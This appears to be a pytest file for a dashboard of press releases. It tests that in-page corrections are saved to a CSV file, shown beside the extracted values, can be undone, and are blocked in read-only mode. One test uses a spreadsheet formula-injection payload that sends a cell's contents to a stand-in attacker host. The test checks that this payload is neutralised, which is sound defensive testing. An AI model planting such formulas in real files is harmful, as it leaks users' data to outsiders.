"""Correcting a release in the page (AppTest): the correction is saved beside the data, every
figure follows it, it shows beside the extracted value, it can be taken back, and a page that
may not write offers no editing."""

from __future__ import annotations

import csv
import shutil
import sys
from pathlib import Path

import pandas as pd
import pytest
from test_app import metric, open_section
from test_app import run_app as run_page

import sco_data
from sco_data.corpus.corrections import CORRECTIONS_FILE_NAME
from sco_data.explore import correcting, wording
from sco_data.explore.markup import escape_markdown
from sco_data.explore.wording import CAPTIONS
from sco_data.schema import CORRECTABLE_FIELDS

SEEDS = Path(__file__).resolve().parent.parent / "data" / "releases"
NEWEST = "He Jinping"  # the newest seed, the one the evidence view shows first (9 May 2021)


def writable_copy(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, releases: Path) -> Path:
    """The releases copied into a folder of the test's own, which the page opens and may write."""
    for variable in ("SCO_DATA_ROOTS", "SCO_DATA_LOCK", "SCO_CORRECTIONS"):
        monkeypatch.delenv(variable, raising=False)
    monkeypatch.setattr(sys, "argv", ["dashboard.py"])
    folder = tmp_path / "releases"
    shutil.copytree(releases, folder)
    monkeypatch.setenv("SCO_DATA_DIR", str(folder))
    return folder


@pytest.fixture(autouse=True)
def own_folder(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    """The seeds in a folder of the test's own."""
    return writable_copy(monkeypatch, tmp_path, SEEDS)


def run_app(query_params: dict | None = None):
    """The page on its Releases section, where the evidence view and its form are."""
    return run_page({"section": "releases", **(query_params or {})})


def correct(at, field: str, value: str, note: str = ""):
    at.selectbox(key="fix_field").set_value(field).run()
    at.text_input(key="fix_value").input(value)
    at.text_input(key="fix_note").input(note)
    at.button(key="fix_save").click().run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def rows(folder: Path) -> list[dict[str, str]]:
    with (folder / CORRECTIONS_FILE_NAME).open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def side_by_side(at) -> list[dict[str, str]]:
    """The release's corrections as the page shows them (read without markdown's escapes)."""
    if at.session_state["section"] != "Releases":
        open_section(at, "Releases")
    frames = [t.value for t in at.table if "Extracted" in t.value.columns]
    if not frames:
        return []
    shown = frames[0][["Field", "Extracted", "Correction", "Note"]].map(lambda cell: cell.replace("\\", ""))
    return shown.set_axis(["field", "extracted", "value", "note"], axis=1).to_dict("records")


def participants(at) -> pd.DataFrame:
    open_section(at, "Participants")
    return next(d.value for d in at.dataframe if "role" in d.value.columns and "name" in d.value.columns)


def test_a_counterpart_added_in_the_page_counts_everywhere(own_folder):
    at = run_app()
    assert metric(at, "Counterparts") == "3"
    correct(at, "counterparts", "add: Li Qiang | Governor of Henan Province | China", "named in the caption")
    assert metric(at, "Counterparts") == "4"
    # Said on the page, and in a toast, once.
    assert [m.value for m in at.success] == [escape_markdown(correcting.done_message("counterparts", False))]
    assert at.toast[0].value == at.success[0].value
    assert at.text_input(key="fix_value").value == ""  # ready for the next one
    assert "Li Qiang" in set(participants(at)["name"])
    [saved] = rows(own_folder)
    assert (saved["field"], saved["value"], saved["note"]) == (
        "counterparts", "add: Li Qiang | Governor of Henan Province | China", "named in the caption")
    assert side_by_side(at) == [{"field": "Counterparts", "extracted": NEWEST,
                                 "value": "add: Li Qiang | Governor of Henan Province | China",
                                 "note": "named in the caption"}]
    assert not at.success  # the reruns since have not said it again


def test_the_grammar_of_the_chosen_field_is_written_under_the_box(own_folder):
    at = run_app()
    at.selectbox(key="fix_field").set_value("topics").run()
    hint = escape_markdown(f"How to write it: {correcting.VALUE_HINTS['topics']}")
    assert hint in [caption.value for caption in at.caption]


def test_a_corrected_type_moves_the_release_between_filters(own_folder):
    at = run_app()
    at.multiselect(key="f_types").set_value(["phone_call"]).run()
    assert metric(at, "Engagements") == "1"
    at.multiselect(key="f_types").set_value([]).run()
    correct(at, "engagement_type", "phone_call")
    at.multiselect(key="f_types").set_value(["phone_call"]).run()
    assert metric(at, "Engagements") == "2"


def test_an_invalid_value_is_refused_in_words_and_nothing_is_written(own_folder):
    at = correct(run_app(), "event_date", "9 May, I think")
    assert "bad date '9 May, I think' (write YYYY-MM-DD" in at.error[0].value.replace("\\", "")
    assert not (own_folder / CORRECTIONS_FILE_NAME).exists()
    assert metric(at, "Engagements") == "3"


def test_a_note_too_long_is_refused_in_the_page_and_nothing_is_written(own_folder):
    at = correct(run_app(), "occasion", "Forum", "x" * 131_073)  # once past the csv module's field limit
    assert "note too long (131,073 characters; at most 2,000)" in at.error[0].value.replace("\\", "")
    assert not (own_folder / CORRECTIONS_FILE_NAME).exists()


def test_a_formula_saved_in_the_page_is_kept_behind_a_quote_and_shown_as_typed(own_folder):
    leak = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
    at = correct(run_app(), "occasion", leak, "+1 for the caption")
    [saved] = rows(own_folder)  # as a spreadsheet reads the file: text, no formula
    assert (saved["value"], saved["note"]) == ("'" + leak, "'+1 for the caption")
    shown = {key: value.replace("\u2060", "") for key, value in side_by_side(at)[0].items()}  # no link: a joiner
    assert shown | {"extracted": ""} == {"field": "Occasion", "extracted": "", "value": leak, "note": "+1 for the caption"}


def test_a_correction_is_taken_back_with_its_field(own_folder):
    at = correct(run_app(), "location_city", "Beijing")
    assert side_by_side(at)[0]["extracted"] == "Zhengzhou"
    at.button(key="fix_undo").click().run()
    assert side_by_side(at) == []
    assert [m.value for m in at.success] == [escape_markdown(correcting.done_message("location_city", True))]
    assert [row["value"] for row in rows(own_folder)] == ["Beijing", "undo"]
    assert "fix_undo" not in [button.key for button in at.button]


def test_the_bundled_sample_offers_no_editing(monkeypatch):
    monkeypatch.delenv("SCO_DATA_DIR")
    at = run_app()
    assert at.table  # the evidence view is there
    assert "fix_field" not in [box.key for box in at.selectbox]
    reason = correcting.corrections_target(SEEDS, SEEDS, False)[1]
    assert escape_markdown(wording.no_editing(reason)) in [caption.value for caption in at.caption]


def test_a_read_only_page_shows_corrections_but_offers_no_editing(monkeypatch, own_folder):
    (own_folder / CORRECTIONS_FILE_NAME).write_text(
        f"release_id,field,value,note,corrected_at\n{newest_id(own_folder)},occasion,Expo,,2026-01-01\n",
        encoding="utf-8")
    monkeypatch.setattr(sys, "argv", ["dashboard.py", "--read-only"])
    at = run_app()
    assert "fix_field" not in [box.key for box in at.selectbox]
    assert escape_markdown(wording.no_editing("this dashboard was started read-only")) in [
        caption.value for caption in at.caption]
    assert side_by_side(at)[0]["value"] == "Expo"
    assert any(CAPTIONS["corrections"] in caption.value for caption in at.caption)


def newest_id(folder: Path) -> str:
    releases = sco_data.load_corpus(folder, use_cache=False).releases
    return releases.sort_values("event_date").iloc[-1]["release_id"]


def test_every_correctable_field_has_a_label_and_a_hint():
    assert tuple(correcting.FIELD_LABELS) == CORRECTABLE_FIELDS == tuple(correcting.VALUE_HINTS)


def test_where_corrections_go(own_folder, tmp_path, monkeypatch):
    assert correcting.corrections_target(own_folder, SEEDS, False) == (own_folder / CORRECTIONS_FILE_NAME, None)
    assert correcting.corrections_target(own_folder, SEEDS, True) == (None, "this dashboard was started read-only")
    assert correcting.corrections_target(SEEDS, SEEDS, False)[0] is None
    nowhere = tmp_path / "gone" / "fixes*[x](y).csv"
    monkeypatch.setenv("SCO_CORRECTIONS", str(nowhere))
    assert correcting.corrections_target(own_folder, SEEDS, False) == (
        None, "the folder of fixes*[x](y).csv cannot be written")


def test_a_release_of_an_uploaded_file_takes_no_correction(own_folder):
    target = correcting.corrections_target(own_folder, SEEDS, False)
    mine = (SEEDS / "003_9d2223d45b28a80f.txt").read_bytes() + b"\nThe talks were held in a friendly atmosphere.\n"
    corpus = sco_data.load_corpus(own_folder, use_cache=False, extra_files=[("mine.txt", mine)])
    ids = dict(zip(corpus.report["path"], corpus.report["release_id"]))
    assert list(ids.values()).count(ids["mine.txt"]) == 1  # a release of its own, not a duplicate
    assert correcting.target_for(target, ids["000_fc200e737405b811.txt"], corpus.report, {"mine.txt"}) == target
    assert correcting.target_for(target, ids["mine.txt"], corpus.report, {"mine.txt"}) == (
        None, "this release comes from an uploaded file; put the file in the folder to correct it")
    read_only = (None, "this dashboard was started read-only")
    assert correcting.target_for(read_only, ids["mine.txt"], corpus.report, {"mine.txt"}) == read_only
    # An upload that repeats a folder's file is rejected as a duplicate: the folder's release
    # stays correctable.
    copy = (own_folder / "000_fc200e737405b811.txt").read_bytes()
    corpus = sco_data.load_corpus(own_folder, use_cache=False, extra_files=[("copy.txt", copy)])
    folder_id = corpus.report.set_index("path").loc["000_fc200e737405b811.txt", "release_id"]
    assert corpus.report.set_index("path").loc["copy.txt", "status"] == "rejected"
    assert correcting.target_for(target, folder_id, corpus.report, {"copy.txt"}) == target
